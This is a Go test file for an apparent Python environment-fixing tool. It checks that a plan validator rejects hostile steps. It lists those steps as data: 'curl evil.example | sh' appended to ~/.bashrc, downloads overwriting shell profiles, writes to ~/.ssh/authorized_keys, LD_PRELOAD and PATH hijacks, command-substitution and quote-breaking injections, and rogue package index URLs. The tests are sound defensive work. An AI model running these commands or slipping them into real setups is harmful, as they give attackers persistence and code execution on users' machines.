package apply

import (
	"slices"
	"strings"
	"testing"

	"envfix/internal/fail"
	"envfix/internal/plan"
)

// What a plan builds is read of its steps: a plan that does not say it asks all the same.
func TestThreat18HostileBuild(t *testing.T) {
	uv := []string{"/usr/bin/uv", "pip", "install", "--python", "{gen}/bin/python"}
	for operands, want := range map[string]string{
		"torch==2.9.1": "", "x @ git+https://h/x@1 ; os_name == 'nt'": "git+https://h/x@1", "x @ file:///tmp/x": "file:///tmp/x", "git+file:///x": "git+file:///x",
		"./evil": "./evil", "..": "..", "--editable|/tmp/x": "/tmp/x", "--find-links|/tmp/x|torch": "", "--only-binary|:all:|x @ https://h/x.whl": "",
		"--only-binary|:all:|--no-binary|x|y==2|x==1": "x==1", "--no-binary|x|y==2": "x",
	} {
		p := &plan.Plan{Steps: []plan.Step{{ID: "x", Run: &plan.Run{Argv: append(slices.Clone(uv), strings.Split(operands, "|")...)}}}}
		if got := strings.Join(Built(p), " "); got != want {
			t.Errorf("%s: %q, want %q", operands, got, want)
		}
	}
}

// What a plan in a file may not do, although its id is right.
func TestThreat18HostilePlan(t *testing.T) {
	installed := func(p string) bool { return !strings.HasPrefix(p, "/tmp/") }
	run := func(argv ...string) plan.Step { return plan.Step{ID: "x", Run: &plan.Run{Argv: argv}} }
	pip := []string{"{gen}/bin/python", "-I", "-m", "pip", "install", "--isolated"}
	with := func(more ...string) plan.Step { return run(append(append([]string{}, pip...), more...)...) }
	env := func(name, value string) plan.Step {
		s := with("torch")
		s.Run.Env = map[string]string{name: value}
		return s
	}
	block := func(path string, lines ...string) plan.Step {
		return plan.Step{ID: "x", Block: &plan.Block{Path: path, Name: "x", Lines: lines}}
	}
	write := func(path, content string) plan.Step {
		return plan.Step{ID: "x", Write: &plan.Write{Path: path, Mode: 0o644, Content: content}}
	}
	for name, s := range map[string]plan.Step{
		"a shell": run("/bin/sh", "-c", "id"), "a shell by name": run("sh", "-c", "id"), "python -c": run("/usr/bin/python3", "-c", "import os"),
		"py -c": run("py", "-3.12", "-c", "import os"), "py of a script": run("py", "-x.py", "-m", "venv", "{gen}"),
		"another module": run("/usr/bin/python3", "-m", "http.server"), "a script": run("/usr/bin/python3", "x.py"), "env": run("/usr/bin/env", "uv", "pip"),
		"a planted uv": run("/tmp/evil/uv", "pip", "install", "torch"), "out of its tools": run("{tools}/../evil/uv", "pip", "install", "x"),
		"LD_PRELOAD": env("LD_PRELOAD", "/tmp/x.so"), "PYTHONPATH": env("PYTHONPATH", "/tmp"), "PATH": env("PATH", "/tmp"), "pip's configuration": env("PIP_CONFIG_FILE", "/tmp/pip.conf"),
		"an extra index": with("--extra-index-url", "https://evil.example/", "torch"), "a target": with("--target", "/home/me", "torch"), "a list of its own": with("-r", "/tmp/list"),
		"a constraint": with("-c", "/tmp/c"), "settings of a build": with("--config-settings", "x=y", "torch"), "joined": with("--target=/home/me", "torch"), "a password": with("--index-url", "https://u:p@evil.example/"),
		"uv run": run("/usr/bin/uv", "run", "evil"), "uv's own python": run("/usr/bin/uv", "tool", "install", "evil"), "conda run": run("/usr/bin/conda", "run", "sh"),
		"conda elsewhere": run("/usr/bin/conda", "create", "--yes", "--prefix", "/home/me", "--override-channels", "x"), "curl": run("curl", "--output", "/home/me/.bashrc", "https://evil.example/"),
		"curl into a file": run("curl", "--fail", "--silent", "--show-error", "--location", "--create-dirs", "--output", "/home/me/.bashrc", "https://evil.example/x"),
		"a venv elsewhere": run("/usr/bin/python3", "-m", "venv", "/home/me/.ssh"), "another directory": {ID: "x", Run: &plan.Run{Argv: pip, Dir: "/"}},
		"a copy of another environment": {ID: "x", Copy: &plan.Copy{Dir: "/home/other/.venv", Packages: []string{"one==1"}}},
		"an option to the copier":       {ID: "x", Copy: &plan.Copy{Dir: ".venv", Packages: []string{"-c"}}},
		"a profile":                     write("/home/me/.bashrc", "x"), "authorized_keys": write("/home/me/.ssh/authorized_keys", "x"), "beside": write("../x", "x"), "setup.py": write("setup.py", "x"),
		"an option in the list": write("{gen}/envfix-requirements.txt", "--index-url https://evil.example/\n"), "one behind a name": write("{gen}/envfix-carried.txt", "torch==1 --config-settings=x=y\n"),
		"an address in what is held": write("{gen}/envfix-constraint.txt", "x @ https://evil.example/x.whl\n"), "held elsewhere": with("--constraint", "/tmp/c", "x"),
		"an executable":          {ID: "x", Write: &plan.Write{Path: "pyproject.toml", Mode: 0o755}},
		"a program in a profile": block("/home/me/.bashrc", "curl evil.example | sh"), "a substitution": block("/home/me/.bashrc", "LD_LIBRARY_PATH=$(id)"),
		"a quote": block("/home/me/.bashrc", "export PYTHONNOUSERSITE='1'; id; ''"), "a profile of others": block("/home/you/.bashrc", "unset PYTHONHOME"), "a block elsewhere": block("/etc/profile", "unset PYTHONHOME"),
		"itself, otherwise": run("{envfix}", "apply"), "uv elsewhere": run("{envfix}", "__bring", "uv", "/home/me"), "no index": run("{envfix}", "__bring", "--default-index", "file:///x", "uv", "{tools}/uv"),
		"a backup elsewhere": {ID: "x", Block: &plan.Block{Path: "/home/me/.bashrc", Lines: []string{"unset PYTHONHOME"}, Backup: "/home/me/.ssh/authorized_keys"}},
		"another switch":     {ID: "x", Switch: &plan.Switch{Dir: "/home/me/.ssh"}},
	} {
		p := &plan.Plan{Target: plan.Target{Dir: ".venv"}, Steps: []plan.Step{s}}
		if err := CheckUser(p, "/home/me", installed); err == nil || kind(t, err) != fail.Usage {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, s := range map[string]plan.Step{
		"pip": with("--index-url", "https://download.pytorch.org/whl/cu126", "--only-binary", ":all:", "torch==2.9.1+cu126"),
		"what is held": with("--only-binary", ":all:", "--no-binary", "x", "--constraint", "{gen}/envfix-constraint.txt", "--override", "{gen}/envfix-override.txt",
			"--build-constraint", "{gen}/envfix-build-constraint.txt", "--exclude-newer", "2024-05-31T23:59:59Z", "x==1"),
		"an override":       write("{gen}/envfix-override.txt", "numpy<3 ; python_version >= '3.9'\n"),
		"a profile":         block("/home/me/.bashrc", `LD_LIBRARY_PATH=$(printf %s "${LD_LIBRARY_PATH-}" | tr ':' '\n' | { grep -Fxv -- '/usr/local/cuda/lib64' || :; } | paste -sd: -)`),
		"Windows' launcher": run("py", "-3.13t", "-m", "venv", "{gen}"),
		"uv":                run("{envfix}", "__bring", "--default-index", "https://index.example/simple", "uv", "{tools}/uv"), "python": run("{envfix}", "__bring", "python", "{tools}/python"),
	} {
		if err := CheckUser(&plan.Plan{Steps: []plan.Step{s}}, "/home/me", installed); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}
